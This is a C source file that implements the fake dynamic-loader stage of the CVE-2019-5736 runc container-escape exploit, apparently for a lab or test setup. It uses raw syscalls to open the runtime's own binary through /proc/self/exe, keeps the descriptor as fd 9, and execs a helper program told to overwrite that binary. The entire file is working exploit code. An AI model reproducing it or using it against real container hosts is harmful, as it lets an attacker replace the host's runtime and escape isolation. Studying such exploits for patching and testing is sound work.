/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * An image's dynamic loader, as the attack CVE-2019-5736 has it: a script "#!/proc/self/exe" makes the
 * runtime execute itself, the kernel starts this in the place of the C library's loader, and /proc/self/exe
 * is the runtime's file. It keeps that open as descriptor 9 and executes /bin/inside, which is a program of
 * its own, so that nothing runs from the file any more, to overwrite it. No C library: there is none set up
 * for it.
 */
#include <asm/unistd.h>
#include <linux/fcntl.h>
#include <stddef.h>

void load(void) __attribute__((noreturn, used));

static long call(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return result;
}

void load(void)
{
	const char *const args[] = { "inside", "overwrite", "/proc/self/fd/9", NULL };
	const char *const env[] = { NULL };
	/* cloexec: the next program is to have it */
	long fd = call(__NR_open, (long)"/proc/self/exe", O_RDONLY, 0);

	call(__NR_dup2, fd, 9, 0);
	call(__NR_execve, (long)"/bin/inside", (long)args, (long)env);
	for (;;)
		call(__NR_exit_group, 126, 0, 0);
}

__asm__(".globl _start\n"
	"_start:\n"
	"	xor %ebp, %ebp\n"
	"	and $-16, %rsp\n"
	"	call load\n");
